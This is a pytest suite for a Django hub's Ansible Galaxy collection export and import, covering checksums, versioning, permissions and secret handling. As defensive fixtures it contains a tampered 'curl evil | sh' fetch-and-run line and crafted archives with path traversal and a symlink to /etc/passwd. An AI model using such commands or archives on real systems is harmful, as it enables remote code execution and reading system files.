"""The library as a galaxy collection through the API: contents, permissions, versions, import."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from typing import Any

import pytest
import yaml
from django.core.files.uploadedfile import SimpleUploadedFile

from hub.audit.models import AuditLog
from hub.scripts.models import DangerousCommandRule, ScriptTemplate
from tests.factories import make_script
from tests.helpers import err, ok

pytestmark = pytest.mark.django_db

URL = "/api/script-templates/"
EXPORT = f"{URL}export_collection/"
IMPORT = f"{URL}import_collection/"
QUERY = {"namespace": "acme", "name": "ops_scripts"}
PARAMS = [
    {
        "name": "MODE",
        "type": "choice",
        "choices": ["fast", "safe"],
        "default": "safe",
        "required": True,
        "description": "How careful to be.",
    },
    {"name": "out_file", "type": "string", "default": "/tmp/out.txt"},
    {"name": "db_password", "type": "secret", "default": "hunter2-secret"},
    {"name": "retries", "type": "number", "default": 3},
    {"name": "ratio", "type": "number"},
    {"name": "targets", "type": "host_list", "default": ["web1", "web2"]},
]


def export(api: Any, **query: Any) -> dict[str, bytes]:
    response = api.get(EXPORT, {**QUERY, **query})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/gzip"
    data = b"".join(response) if response.streaming else response.content
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        files = {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore
    files["__name__"] = response["Content-Disposition"].encode()
    files["__bytes__"] = data
    return files


def version_of(files: dict[str, bytes]) -> tuple[int, ...]:
    galaxy = yaml.safe_load(files["galaxy.yml"])
    return tuple(int(p) for p in galaxy["version"].split("."))


def upload(api: Any, data: bytes, name: str = "lib.tar.gz") -> Any:
    return api.post(IMPORT, {"file": SimpleUploadedFile(name, data)}, format="multipart")


def tar_of(members: dict[str, bytes | str], *, links: dict[str, str] | None = None) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, content in members.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    return raw.getvalue()


def zip_of(members: dict[str, str]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return raw.getvalue()


def test_export_is_a_galaxy_artifact_with_one_typed_role_per_script(api: Any, owner: Any) -> None:
    make_script(
        owner,
        name="Disk report",
        content="echo $MODE\n",
        parameters=PARAMS,
        category="ops",
        tags=["disk"],
        description="Reports disk usage.",
    )
    make_script(owner, name="count things", script_type="python", content="print(1)\n")
    files = export(api)
    version = ".".join(map(str, version_of(files)))
    assert files["__name__"].decode() == f'attachment; filename="acme-ops_scripts-{version}.tar.gz"'
    manifest = json.loads(files["MANIFEST.json"])
    assert manifest["collection_info"]["namespace"] == "acme"
    assert manifest["collection_info"]["version"] == version
    listed = json.loads(files["FILES.json"])["files"]
    assert (
        hashlib.sha256(files["FILES.json"]).hexdigest()
        == manifest["file_manifest_file"]["chksum_sha256"]
    )
    for entry in listed:
        if entry["ftype"] == "file":
            assert hashlib.sha256(files[entry["name"]]).hexdigest() == entry["chksum_sha256"]
    assert {"galaxy.yml", "README.md", "meta/runtime.yml"} <= set(files)
    assert "acme.ops_scripts.disk_report" in files["README.md"].decode()
    role = "roles/disk_report/"
    assert files[role + "files/disk_report.sh"] == b"echo $MODE\n"
    assert files["roles/count_things/files/count_things.py"] == b"print(1)\n"
    defaults = yaml.safe_load(files[role + "defaults/main.yml"])
    assert defaults == {
        "disk_report_mode": "safe",
        "disk_report_out_file": "/tmp/out.txt",
        "disk_report_db_password": "",
        "disk_report_retries": 3,
        "disk_report_targets": ["web1", "web2"],
    }
    assert b"hunter2" not in files["__bytes__"] and b"hunter2" not in b"".join(files.values())
    options = yaml.safe_load(files[role + "meta/argument_specs.yml"])["argument_specs"]["main"][
        "options"
    ]
    assert options["disk_report_mode"] == {
        "type": "str",
        "required": True,
        "choices": ["fast", "safe"],
        "description": "How careful to be.",
    }
    assert options["disk_report_db_password"]["no_log"] is True
    assert options["disk_report_retries"]["type"] == "int"
    assert options["disk_report_ratio"]["type"] == "float"
    assert options["disk_report_targets"] | {} == {
        "type": "list",
        "elements": "str",
        "required": False,
        "default": ["web1", "web2"],
        "description": "Parameter targets.",
    }
    task = yaml.safe_load(files[role + "tasks/main.yml"])[0]
    assert task["ansible.builtin.script"]["executable"] == "bash"
    assert task["ansible.builtin.script"]["cmd"].startswith("disk_report.sh {{ disk_report_argv")
    assert task["environment"]["MODE"] == "{{ disk_report_mode | default('') | string }}"
    assert task["no_log"] is True
    py_task = yaml.safe_load(files["roles/count_things/tasks/main.yml"])[0]
    assert py_task["ansible.builtin.script"]["executable"] == "python3"
    assert "no_log" not in py_task


def test_export_is_deterministic_and_its_version_grows_with_each_library_change(
    api: Any, owner: Any
) -> None:
    script = make_script(owner, name="deploy")
    first, again = export(api), export(api)
    assert first["__bytes__"] == again["__bytes__"]  # exporting is no library change
    ok(api.patch(f"{URL}{script.pk}/", {"content": "echo v2\n"}))
    second = export(api)
    assert version_of(second) > version_of(first)
    ok(api.patch(f"{URL}{script.pk}/", {"category": "renamed"}))
    third = export(api)
    assert version_of(third) > version_of(second)
    gone = make_script(owner, name="gone")
    fourth = export(api)
    assert api.delete(f"{URL}{gone.pk}/").status_code == 204
    assert version_of(export(api)) > version_of(fourth) > version_of(third)
    assert AuditLog.objects.filter(action="export").count() == 6


def test_export_has_only_what_the_user_may_view_and_skips_offline_versions(
    client_for: Any, owner: Any, member: Any
) -> None:
    mine = make_script(member, name="member script", content="echo v1\n")
    make_script(owner, name="owner script")
    ok(client_for(member).patch(f"{URL}{mine.pk}/", {"content": "echo v2 offline\n"}))
    ok(client_for(member).post(f"{URL}{mine.pk}/versions/2/status/", {"status": "offline"}))
    files = export(client_for(member))
    roles = {name.split("/")[1] for name in files if name.startswith("roles/")}
    assert roles == {"member_script"}
    assert files["roles/member_script/files/member_script.sh"] == b"echo v1\n"


def test_export_filters_by_category_tag_and_ids(api: Any, owner: Any) -> None:
    a = make_script(owner, name="a", category="db", tags=["nightly"])
    make_script(owner, name="b", category="web", tags=["nightly"])
    make_script(owner, name="c", category="web")

    def roles(**query: Any) -> set[str]:
        return {n.split("/")[1] for n in export(api, **query) if n.startswith("roles/")}

    assert roles() == {"a", "b", "c"}
    assert roles(category="web") == {"b", "c"}
    assert roles(tag="nightly") == {"a", "b"}
    assert roles(ids=f"{a.pk}") == {"a"}


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"namespace": "Acme"}, "namespace"),
        ({"name": "ops-scripts"}, "name"),
        ({"name": ""}, "name"),
        ({"namespace": "1acme"}, "namespace"),
        ({"ids": "1,x"}, "ids"),
    ],
)
def test_export_names_the_bad_field(api: Any, query: dict[str, str], field: str) -> None:
    err(api.get(EXPORT, {**QUERY, **query}), 400, field)


def test_role_names_are_unique_identifiers(api: Any, owner: Any) -> None:
    make_script(owner, name="Backup DB")
    make_script(owner, name="backup-db")
    make_script(owner, name="2nd run!")
    roles = {n.split("/")[1] for n in export(api) if n.startswith("roles/")}
    assert roles == {"backup_db", "backup_db_2", "script_2nd_run"}


def test_import_creates_and_versions_scripts_and_keeps_stored_secrets(api: Any, owner: Any) -> None:
    make_script(owner, name="Disk report", content="echo $MODE\n", parameters=PARAMS)
    data = export(api)["__bytes__"]
    script = ScriptTemplate.objects.get(name="Disk report")
    stored = script.current_version.parameters  # type: ignore[union-attr]
    skipped = ok(upload(api, data))
    assert skipped["imported"] == [] and skipped["updated"] == []
    assert skipped["skipped"] == [
        {
            "role": "disk_report",
            "reason": "Unchanged: same content and parameters as the current version.",
        }
    ]
    ok(api.patch(f"{URL}{script.pk}/", {"content": "echo changed\n"}))
    report = ok(upload(api, data))
    assert [(r["name"], r["version"]) for r in report["updated"]] == [("Disk report", 3)]
    script.refresh_from_db()
    assert script.content == "echo $MODE\n"
    assert script.parameters == stored  # the encrypted secret default survived
    ScriptTemplate.objects.all().delete()
    created = ok(upload(api, data))
    assert [r["name"] for r in created["imported"]] == ["Disk report"]
    fresh = ScriptTemplate.objects.get(name="Disk report")
    assert fresh.created_by == owner
    secret = next(p for p in fresh.parameters if p["type"] == "secret")
    assert secret["default"] is None
    assert AuditLog.objects.filter(action="import").count() == 3


def test_import_of_a_roles_directory_zip_reads_types_and_parameters(api: Any) -> None:
    specs = {
        "argument_specs": {
            "main": {
                "options": {
                    "cleanup_days": {
                        "type": "int",
                        "required": True,
                        "description": ["Age", "in days."],
                    },
                    "cleanup_level": {"type": "str", "choices": ["a", "b"]},
                    "cleanup_token": {"type": "str", "no_log": True},
                    "cleanup_hosts": {"type": "list", "elements": "str"},
                }
            }
        }
    }
    archive = zip_of(
        {
            "roles/cleanup/tasks/main.yml": "- ansible.builtin.script: clean.py\n",
            "roles/cleanup/files/clean.py": "print('x')\n",
            "roles/cleanup/meta/argument_specs.yml": yaml.safe_dump(specs, sort_keys=False),
            "roles/cleanup/defaults/main.yml": "cleanup_level: b\ncleanup_extra: hi\n",
            "roles/nofile/tasks/main.yml": "- ansible.builtin.debug: msg=x\n",
            "roles/weird/tasks/main.yml": "- ansible.builtin.script: tool\n",
            "roles/weird/files/tool": "no shebang\n",
        }
    )
    report = ok(upload(api, archive, "roles.zip"))
    assert [r["name"] for r in report["imported"]] == ["cleanup"]
    reasons = {r["role"]: r["reason"] for r in report["skipped"]}
    assert reasons == {
        "nofile": "Only administrators may write playbook entries.",  # not one script
        "weird": "Cannot tell the script type of files/tool.",
    }
    script = ScriptTemplate.objects.get(name="cleanup")
    assert script.script_type == "python"
    assert [(p["name"], p["type"], p["required"], p["default"]) for p in script.parameters] == [
        ("days", "number", True, None),
        ("level", "choice", False, "b"),
        ("token", "secret", False, None),
        ("hosts", "list", False, None),
        ("extra", "string", False, "hi"),
    ]
    assert script.parameters[0]["description"] == "Age in days."


def test_import_skips_blocked_scripts_and_scripts_it_may_not_change(
    client_for: Any, owner: Any, member: Any
) -> None:
    DangerousCommandRule.objects.create(pattern=r"forbidden_tool", description="no forbidden tool")
    owned = make_script(owner, name="shared")
    from hub.core.permissions import grant

    grant(member, owned, ["view"])
    archive = tar_of(
        {
            "roles/shared/tasks/main.yml": "- ansible.builtin.script: shared.sh\n",
            "roles/shared/files/shared.sh": "echo new\n",
            "roles/wipe/tasks/main.yml": "- ansible.builtin.script: wipe.sh\n",
            "roles/wipe/files/wipe.sh": "forbidden_tool --all\n",
            "roles/fine/tasks/main.yml": "- ansible.builtin.script: fine.sh --now\n",
            "roles/fine/files/fine.sh": "echo fine\n",
        }
    )
    report = ok(upload(client_for(member), archive))
    assert [r["name"] for r in report["imported"]] == ["fine"]
    reasons = {r["role"]: r["reason"] for r in report["skipped"]}
    assert "may not change" in reasons["shared"]
    assert "no forbidden tool" in reasons["wipe"]
    assert not ScriptTemplate.objects.filter(name="wipe").exists()


@pytest.mark.parametrize(
    "archive",
    [
        tar_of({"roles/x/tasks/main.yml": "---\n", "../evil.sh": "echo pwned\n"}),
        tar_of({"roles/x/tasks/main.yml": "---\n", "roles/../../evil.sh": "x"}),
        tar_of({"/etc/evil": "x", "roles/x/tasks/main.yml": "---\n"}),
        tar_of({"roles/x/tasks/main.yml": "---\n"}, links={"roles/x/files/x.sh": "/etc/passwd"}),
        zip_of({"roles/x/tasks/main.yml": "---\n", "../../evil.sh": "x"}),
        b"this is not an archive",
        tar_of({"docs/readme.txt": "no roles here"}),
    ],
    ids=["dotdot", "nested-dotdot", "absolute", "symlink", "zip-dotdot", "garbage", "no-roles"],
)
def test_import_refuses_unsafe_or_malformed_archives(api: Any, archive: bytes) -> None:
    err(upload(api, archive), 400, "file")
    assert not ScriptTemplate.objects.exists()


def test_import_refuses_a_collection_whose_files_do_not_match_their_checksums(
    api: Any, owner: Any
) -> None:
    make_script(owner, name="deploy")
    files = export(api)
    members = {k: v for k, v in files.items() if not k.startswith("__")}
    members["roles/deploy/files/deploy.sh"] = b"curl evil | sh\n"
    ScriptTemplate.objects.all().delete()
    errors = err(upload(api, tar_of(members)), 400, "file")
    assert "checksum" in errors["file"][0]


def test_import_refuses_oversized_archives(
    api: Any, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hub.scripts import galaxy

    monkeypatch.setattr(galaxy.archive, "MAX_UNPACKED_BYTES", 1000)
    archive = tar_of({"roles/x/tasks/main.yml": "---\n", "roles/x/files/x.sh": "#" * 5000})
    errors = err(upload(api, archive), 400, "file")
    assert "more than 1000 bytes" in errors["file"][0]


def test_import_takes_ansible_style_defaults_and_names_the_option_it_refuses(api: Any) -> None:
    def specs(options: dict[str, Any]) -> str:
        return yaml.safe_dump({"argument_specs": {"main": {"options": options}}})

    archive = zip_of(
        {
            "roles/tune/tasks/main.yml": "- ansible.builtin.script: tune.sh\n",
            "roles/tune/files/tune.sh": "echo $hold $pkgs\n",
            "roles/tune/meta/argument_specs.yml": specs(
                {
                    "tune_hold": {"type": "bool", "default": "yes"},
                    "tune_pkgs": {"type": "list", "default": "a, b"},
                    "tune_limits": {"type": "dict", "default": {"nofile": 1}},
                }
            ),
            "roles/pick/tasks/main.yml": "- ansible.builtin.script: pick.sh\n",
            "roles/pick/files/pick.sh": "echo $mode\n",
            "roles/pick/meta/argument_specs.yml": specs(
                {"pick_mode": {"type": "str", "choices": ["a", "b"], "default": "c"}}
            ),
        }
    )
    report = ok(upload(api, archive, "roles.zip"))
    assert [r["name"] for r in report["imported"]] == ["tune"]
    assert report["skipped"] == [
        {"role": "pick", "reason": "parameters.mode.default: must be one of ['a', 'b']."}
    ]
    script = ScriptTemplate.objects.get(name="tune")
    assert [(p["name"], p["type"], p["default"]) for p in script.parameters] == [
        ("hold", "boolean", True),
        ("limits", "dict", {"nofile": 1}),
        ("pkgs", "list", ["a", "b"]),
    ]
